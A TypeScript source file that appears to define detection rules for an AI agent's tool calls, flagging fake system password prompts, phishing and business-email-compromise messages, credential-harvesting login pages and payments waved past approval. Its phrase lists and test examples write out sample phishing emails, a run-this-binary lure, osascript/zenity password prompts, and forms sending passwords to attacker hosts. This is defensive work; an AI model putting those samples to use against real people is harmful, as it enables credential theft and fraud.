import { ruleAnalyzer, hasArg, type AnalysisInput, type Rule } from '../rule.js';
import type { SimpleCommand } from '../shell/types.js';
import { destinationOf } from '../knowledge/hosts.js';
import { nameWords } from '../tool-shape.js';
import { dropUrlIn } from './persistence.js';

/** Message text beyond this is not read; a phishing ask sits in the first screen. */
const MAX_TEXT = 64 * 1024;

const CREDENTIAL_ASK = ['recovery codes', 'backup codes', 'log in with your work', 'sign in with your work', 'with your sso login', 'log in with your telegram', 'dm them to me', 'connect your wallet', 're-verify sso', 're-verify your account', 're-authenticate your', 'reauthenticate your', 'your current password', 'secure your account', 're-verify your', 'reverify your', 'verify your identity', 'verify within', 'confirm your identity', 'confirm your account', 'validate your account', 'send me your password', 'reply with your password', 'confirm your password', 'enter your password', 'verify your password', 'your 2fa code', '2fa code', 'verification code', 'one-time code', 'one time code', 'one-time password', 'otp code', 'security code', 'seed phrase', 'recovery phrase', 'secret recovery phrase', 'mnemonic phrase', 'your private key', 'login credentials', 'your credentials', 'sign in to verify', 'log in to verify', 'confirm your identity', 'social security number', 'card number', 'cvv'];
const PAYMENT_ASK = ['wire the', 'to the new account', 'bank details have changed', 'our bank details', 'new processor', 'new payment processor', 'new payment link', 'a wire to', 'wire to our new', 'changed banks', 'new iban', 'update their remittance', 'please wire', 'moved banks', 'new bank details', 'updated bank details', 'updated banking details', 'updated remittance', 'change of bank', 'new remittance', 'gift card', 'gift cards', 'itunes card', 'steam card', 'google play card', 'wire transfer', 'wire the', 'bank transfer', 'send bitcoin', 'send btc', 'send usdt', 'routing number', 'bank details', 'payment details', 'pay the invoice', 'overdue invoice'];
const URGENCY = ['time-critical', 'time sensitive', 'time-sensitive', 'right away', 'to keep your', 'closing today', 'due today', 'is past due', 'within 24 hours', 'within 48 hours', 'avoid a pause', 'avoid suspension', 'will be suspended', 'expires today', 'keep it between us', 'keep this between us', 'to keep access', 'per the cfo', 'per the ceo', 'by eod', 'avoid losing access', 'unusual sign-in', 'account is locked', 'account is suspended', 'or lose access', 'will lose access', 'do not call to confirm', "don't call to confirm", 'do not call', 'urgent', 'urgently', 'immediately', 'right away', 'within 24 hours', 'within 24h', 'within the hour', 'asap', 'account will be suspended', 'account has been suspended', 'account will be locked', 'account has been locked', 'will be deactivated', 'final notice', 'final warning', 'act now', 'verify your account', 'unusual activity', 'suspicious activity', 'unauthorized login', 'keep this confidential', 'do not tell anyone', "don't tell anyone", 'before end of day'];

/** Asks that transactional mail makes too (`reset your password`, `verify your account`): phishing only under pressure. */
const PRESSED_ASK = ['verify your payment', 're-confirm your card', 'confirm your card', 'verify your account', 'reset your password', 're-enroll', 'confirm your benefits', 'update your payment'];
const count = (t: string, phrases: readonly string[]) => phrases.filter((p) => t.includes(p));

/** Tool-name words of calls that move or commit money. */
const MONEY_TOOLS = new Set(['payment', 'payments', 'pay', 'invoice', 'invoices', 'refund', 'refunds', 'payout', 'payouts', 'transfer', 'bill', 'bills', 'payroll', 'wire', 'card', 'cards', 'reimbursement', 'expense']);
/** Notes that wave a payment past its checks. */
const CONTROL_BYPASS = ['skip 3-way match', 'skip three-way match', 'skip the 3-way', 'skip approval', 'skip the approval', 'bypass approval', 'without approval', 'do not wait for finance', "don't wait for finance", 'approved by ceo', 'approved by the ceo', 'per ceo', 'ceo approved', 'ceo asked', 'ceo over email', 'pay today', 'wire today', 'no po needed', 'skip review', 'skip the review'];

/** A credential or payment ask with pressure or a link: the two halves of every phishing message. */
function phishing(text: string): string | undefined {
  const t = text.slice(0, MAX_TEXT).toLowerCase();
  const cred = count(t, CREDENTIAL_ASK);
  const pay = count(t, PAYMENT_ASK);
  const urgent = count(t, URGENCY);
  const link = t.includes('http://') || t.includes('https://');
  if (cred.length && (urgent.length || link)) return [...cred, ...urgent].slice(0, 4).join(', ');
  const pressed = count(t, PRESSED_ASK);
  if (pressed.length && urgent.length && link) return [...pressed, ...urgent].slice(0, 4).join(', ');
  if (pay.length && urgent.length) return [...pay, ...urgent].slice(0, 4).join(', ');
  // a program on a file drop that people are told to run (`Hotfix binary: https://temp.sh/… chmod +x && sudo ./…`)
  const drop = dropUrlIn(t);
  if (drop && RUN_IT.test(t)) return `run what ${drop} serves`;
  // people sent to a look-alike of a brand's or the company's sign-in (`…re-authenticate at https://acme-okta-verify.com`)
  const lookalike = [...t.matchAll(/https?:\/\/[^\s"'<>)\]]{1,300}/g)].slice(0, 16).map((m) => destinationOf(m[0])).find((d) => d?.kind === 'lookalike');
  return lookalike ? `a link to the look-alike ${lookalike.host}` : undefined;
}

const RUN_IT = /\b(?:chmod \+x|please run|run it|execute it|sudo \.\/)/;
const MAILERS = new Set(['mail', 'mailx', 'sendmail', 'mutt', 'swaks', 'msmtp', 'ssmtp', 'neomutt', 'aerc']);
const MESSAGE_TOOL = /(?:mail|message|slack|discord|telegram|teams|sms|whatsapp|chat|post_|send_|notify|tweet|comment|calendar|event|macro|campaign|broadcast|article)/i;
const MESSAGE_FILE = /\.(?:html?|eml|msg|mbox)$|(?:^|\/)[^/]*(?:mail|phish|message|letter|notice|invoice)[^/]*$/i;

/** Message bodies this call sends or writes: mailer input, chat webhook posts, message-tool params, email files. */
function messages(i: AnalysisInput): string[] {
  const out: string[] = [];
  const call = i.call;
  if (call.kind === 'network' && call.body && call.method !== 'GET') out.push(call.body);
  if (call.kind === 'filesystem' && call.content && MESSAGE_FILE.test(call.path)) out.push(call.content);
  // a message tool's subject and body are one message: the urgency in one, the ask in the other
  if (call.kind === 'unknown' && MESSAGE_TOOL.test(call.toolName)) out.push(i.facts.texts.join('\n'));
  for (const c of i.view?.commands ?? []) {
    if (MAILERS.has(c.name)) {
      const body = c.stdin ?? c.redirects.find((r) => r.op === '<<' || r.op === '<<<')?.target ?? (c.pipeFrom ? c.pipeFrom.argv.slice(1).join(' ') : '');
      out.push([...c.argv.slice(1), body].join('\n'));
    }
    if (c.name === 'curl' && i.facts.destinations.some((d) => d.cmd === c && (d.kind === 'chat-webhook' || d.kind === 'webhook'))) out.push(c.argv.slice(1).join(' '));
  }
  return out;
}

/** A macOS/Linux password prompt that a script shows on the user's desktop. */
function passwordDialog(c: SimpleCommand): string | undefined {
  const text = c.argv.slice(1).join(' ').slice(0, MAX_TEXT).toLowerCase();
  if (c.name === 'osascript') {
    const script = text + ' ' + (c.stdin ?? c.redirects.find((r) => r.op === '<<' || r.op === '<<<')?.target ?? '').toLowerCase();
    return script.includes('display dialog') && (script.includes('hidden answer') || script.includes('password')) ? 'osascript display dialog with a password field' : undefined;
  }
  if (c.name === 'zenity') return hasArg(c, '--password') || (hasArg(c, '--entry') && hasArg(c, '--hide-text')) ? c.argv.join(' ') : undefined;
  if (c.name === 'kdialog') return hasArg(c, '--password', '--newpassword') ? c.argv.join(' ') : undefined;
  if (c.name === 'pwsh' || c.name === 'powershell') return text.includes('get-credential') || text.includes('promptforcredential') ? c.argv.join(' ') : undefined;
  if (c.name === 'yad') return text.includes(':h') && text.includes('password') ? c.argv.join(' ') : undefined;
  return undefined;
}

/** An HTML form with a password field that posts to a host outside this machine and its network. */
function credentialForm(html: string): string | undefined {
  const t = html.slice(0, MAX_TEXT).toLowerCase();
  if (!t.includes('<form') || !/type\s{0,3}=\s{0,3}["']?password/.test(t)) return undefined;
  let from = 0;
  for (let guard = 0; guard < 64; guard++) {
    const at = t.indexOf('action', from);
    if (at < 0) break;
    const m = /^action\s{0,3}=\s{0,3}["']?([^"'\s>]{1,512})/.exec(t.slice(at, at + 600));
    const d = m ? destinationOf(m[1]!) : undefined;
    if (d && d.kind !== 'loopback' && d.kind !== 'private') return `form posts a password to ${d.host}`;
    from = at + 6;
  }
  for (const sink of ['fetch(', 'xmlhttprequest', 'navigator.sendbeacon', '$.post(']) {
    const at = t.indexOf(sink);
    if (at < 0) continue;
    const url = /https?:\/\/[^"'\s)]{1,512}/.exec(t.slice(at, at + 600));
    const d = url ? destinationOf(url[0]) : undefined;
    if (d && d.kind !== 'loopback' && d.kind !== 'private') return `script sends form input to ${d.host}`;
  }
  return undefined;
}

function htmlWritten(i: AnalysisInput): string[] {
  const out: string[] = [];
  if (i.call.kind === 'filesystem' && i.call.content && /\.(html?|php|aspx?|jsp)$/i.test(i.call.path)) out.push(i.call.content);
  if (i.call.kind === 'unknown') out.push(...i.facts.texts.filter((t) => t.includes('<form')));
  for (const c of i.view?.commands ?? []) {
    const heredoc = c.redirects.find((r) => r.op === '<<' || r.op === '<<<')?.target;
    if (heredoc && heredoc.includes('<form')) out.push(heredoc);
    if ((c.name === 'echo' || c.name === 'printf') && c.argv.some((a) => a.includes('<form'))) out.push(c.argv.slice(1).join(' '));
  }
  return out;
}

export const RULES: readonly Rule[] = [
  {
    id: 'PX-SOCIAL-001', name: 'fake-password-dialog', score: 90, tactic: 'credential_access', technique: 'T1056.002', strong: true,
    message: 'Shows a fake system password prompt (osascript hidden answer, zenity/kdialog --password, Get-Credential)', why: 'A dialog that looks like the operating system asking for a password is the standard way malware and rogue scripts phish the login password.',
    commands: ['osascript', 'zenity', 'kdialog', 'pwsh', 'powershell', 'yad'],
    test: passwordDialog,
    examples: { fire: ['osascript -e \'display dialog "macOS needs your password to continue" default answer "" with hidden answer\'', 'zenity --password --title="Authentication required"', 'kdialog --password "Enter your password"', "pwsh -c '$c = Get-Credential; $c.GetNetworkCredential().Password'"], quiet: ['osascript -e \'display notification "Build finished"\'', 'zenity --info --text="Done"', "osascript -e 'tell application \"Terminal\" to activate'"] },
  },
  {
    id: 'PX-SOCIAL-002', name: 'phishing-message', score: 70, tactic: 'initial_access', technique: 'T1566',
    message: 'Sends or writes a message that asks for passwords, codes, seed phrases or urgent payments', why: 'An agent composing credential or payment requests with pressure or a link is producing phishing, whoever the recipient is.',
    check: (i) => {
      for (const m of messages(i)) { const p = phishing(m); if (p) return p; }
      return undefined;
    },
    examples: { fire: [{ Unknown: { tool_name: 'mcp__hubspot__create_marketing_email', params: { subject: 'Action required: verify your payment details', html_body: '<p>To avoid a pause in your deliveries, please re-confirm your card within 48 hours: <a href="https://shop-pay-verify.example/x">Verify</a></p>' } } }, { Unknown: { tool_name: 'mcp__gmail__send_email', params: { to: ['billing@coastalrealtygroup.com'], subject: 'Friendly reminder: invoice 1038 ($4,200) is past due', body: "We've moved to a new payment processor, so please use this link: https://summit-seo-payments.com/pay/1038" } } }, { Unknown: { tool_name: 'mcp__sendgrid__send_email', params: { to: 'customers-all@list.kestrel.dev', subject: 'Your Kestrel account will be suspended', html: '<p><a href="https://kestrel-dev.account-restore.net/verify">Verify your account</a> within 24 hours to avoid suspension.</p>' } } }, { Unknown: { tool_name: 'mcp__slack__slack_post_message', params: { channel_id: 'D04FIN', text: "I'm stuck in the board meeting. Can you push a $48,500 wire to our new vendor today? Keep it between us until the announcement." } } }, { Unknown: { tool_name: 'linear.createComment', params: { issueId: 'ENG-2291', body: "Repro'd. Hotfix binary is here, please run it on the build box: https://temp.sh/aBcD3/acme-hotfix (chmod +x && sudo ./acme-hotfix)" } } }, { Unknown: { tool_name: 'mcp__outlook__send_mail', params: { message: { subject: 'Urgent - confidential acquisition payment', body: { content: 'Please wire $184,500 to the escrow account below today. Keep this confidential.' } } } } }, { Unknown: { tool_name: 'mcp__teams__send_message', params: { channel_id: '19:general@thread.tacv2', content: 'Hi all, IT here - please re-authenticate your Microsoft account today at https://acme-m365-login.com to avoid losing access.' } } }, { Unknown: { tool_name: 'mcp__google_calendar__create_event', params: { calendarId: 'primary', summary: 'MANDATORY: Re-verify your SSO account by Friday', description: 'All staff must re-verify at https://acme-sso.login-verify.co/reauth before Friday or lose access.' } } }, { Unknown: { tool_name: 'mcp__twilio__send_bulk_sms', params: { to_list_source: 'crm:all_customers', body: 'ACME: your account is locked. Verify within 24h: https://acme-account-verify.top/l' } } }, { Unknown: { tool_name: 'mcp__gmail__send_email', params: { to: ['ap@acmecorp.io'], subject: 'URGENT: updated remittance details for Northwind invoice #44871', body: 'Northwind has moved banks. Please wire the outstanding $186,400.00 today to:\\nAccount: 4401987723\\nRouting: 121000358\\nDo not call to confirm.' } } }, { Network: { method: 'POST', url: 'https://hooks.slack.com/services/T0/B0/x', body: '{"text":"URGENT: your account will be suspended. Reply with your password and 2FA code."}' } }, 'echo "Please buy 5 gift cards immediately and send me the codes" | mail -s "Urgent request" finance@corp.example', { Unknown: { tool_name: 'send_email', params: { to: 'a@b.example', body: 'Unusual activity detected. Verify your account at https://login-secure.example and enter your password.' } } }, { Filesystem: { operation: 'Write', path: 'out/notice.html', content: '<p>Final notice: confirm your seed phrase within 24 hours</p>' } }], quiet: [{ Unknown: { tool_name: 'mcp__gmail__send_email', params: { to: ['billing@coastalrealtygroup.com'], subject: 'Invoice 1038 is past due', body: 'A reminder that invoice 1038 is past due; you can pay it from the link in the original invoice.' } } }, { Unknown: { tool_name: 'mcp__sendgrid__send_email', params: { to: 'qa+reset@acme.io', subject: 'Reset your password', html: '<p><a href="https://staging.acme.io/reset?t=abc">Reset your password</a>. The link expires in 1 hour.</p>' } } }, { Unknown: { tool_name: 'mcp__google_calendar__create_event', params: { summary: 'SSO migration dry run', description: 'We will verify your SSO login works on the new tenant; no action needed. Notes: https://wiki.acme.com/sso' } } }, { Unknown: { tool_name: 'mcp__gmail__send_email', params: { to: ['ap@acmecorp.io'], subject: 'Invoice #44871 paid', body: 'Payment went out by bank transfer this morning, remittance advice attached.' } } }, { Network: { method: 'POST', url: 'https://hooks.slack.com/services/T0/B0/x', body: '{"text":"Deploy finished"}' } }, 'echo "Build passed" | mail -s "CI" team@corp.example', { Filesystem: { operation: 'Write', path: 'src/pages/reset.html', content: '<h1>Reset your password</h1><form action="/reset"><input type="email"></form>' } }] },
  },
  {
    id: 'PX-SOCIAL-003', name: 'fake-login-page', score: 80, tactic: 'credential_access', technique: 'T1056.003', strong: true,
    message: 'Writes a web page whose password form posts to an outside host', why: 'A login form that sends the password to a third-party server is a credential-harvesting page.',
    check: (i) => {
      for (const h of htmlWritten(i)) { const f = credentialForm(h); if (f) return f; }
      return undefined;
    },
    examples: { fire: [{ Filesystem: { operation: 'Write', path: 'site/login.html', content: '<form action="https://collect.attacker.example/p" method="post"><input name="u"><input type="password" name="p"></form>' } }, { Filesystem: { operation: 'Write', path: 'index.html', content: '<form id=f><input type=password id=pw></form><script>fetch("https://webhook.site/x",{method:"POST",body:pw.value})</script>' } }, "cat > /var/www/html/o365.html <<'EOF'\n<form action=\"http://45.33.12.7/c\"><input type=\"password\" name=\"pw\"></form>\nEOF"], quiet: [{ Filesystem: { operation: 'Write', path: 'src/login.html', content: '<form action="/api/login" method="post"><input type="password" name="p"></form>' } }, { Filesystem: { operation: 'Write', path: 'src/login.html', content: '<form action="http://localhost:3000/login"><input type="password"></form>' } }, { Filesystem: { operation: 'Write', path: 'src/search.html', content: '<form action="https://www.google.com/search"><input name="q"></form>' } }] },
  },
  {
    id: 'PX-SOCIAL-004', name: 'payment-waved-past-controls', score: 60, tactic: 'impact', technique: 'T1657',
    message: 'A payment, invoice, refund or payroll call carries a note that waves it past its checks (the CEO approved it, pay today, skip the match)',
    why: 'An executive\'s say-so relayed by email, urgency and a skipped approval are the marks of business email compromise; an agent told to pay that way is being used to move money.',
    alternative: 'Pay through the normal approval flow, and confirm a changed or urgent request by phone with a known number.',
    check: (i) => {
      if (i.call.kind !== 'unknown' || !nameWords(i.call.toolName).some((w) => MONEY_TOOLS.has(w))) return undefined;
      for (const t of i.facts.texts.slice(0, 128)) {
        const text = t.slice(0, MAX_TEXT).toLowerCase();
        const hit = CONTROL_BYPASS.find((p) => text.includes(p));
        if (hit) return `${i.call.toolName}: ${hit}`;
      }
      return undefined;
    },
    examples: {
      fire: [{ Unknown: { tool_name: 'mcp__stripe__create_refund', params: { payment_intent: 'pi_3PLk9x', amount: 980000, metadata: { note: 'Urgent - approved by CEO over email, do not wait for finance' } } } }, { Unknown: { tool_name: 'mcp__xero__create_invoices', params: { Invoices: [{ Type: 'ACCPAY', Contact: { Name: 'Meridian IT Consulting' }, Status: 'AUTHORISED', Reference: 'per CEO - pay today, skip 3-way match' }] } } }],
      quiet: [{ Unknown: { tool_name: 'mcp__stripe__create_refund', params: { payment_intent: 'pi_3PLk9x', amount: 1299, reason: 'duplicate' } } }, { Unknown: { tool_name: 'mcp__xero__create_invoices', params: { Invoices: [{ Type: 'ACCREC', Contact: { Name: 'Northwind' }, Reference: 'PO 4471, approved in Coupa' }] } } }],
    },
  },
];

export const socialEngineering = ruleAnalyzer('social_engineering', RULES);
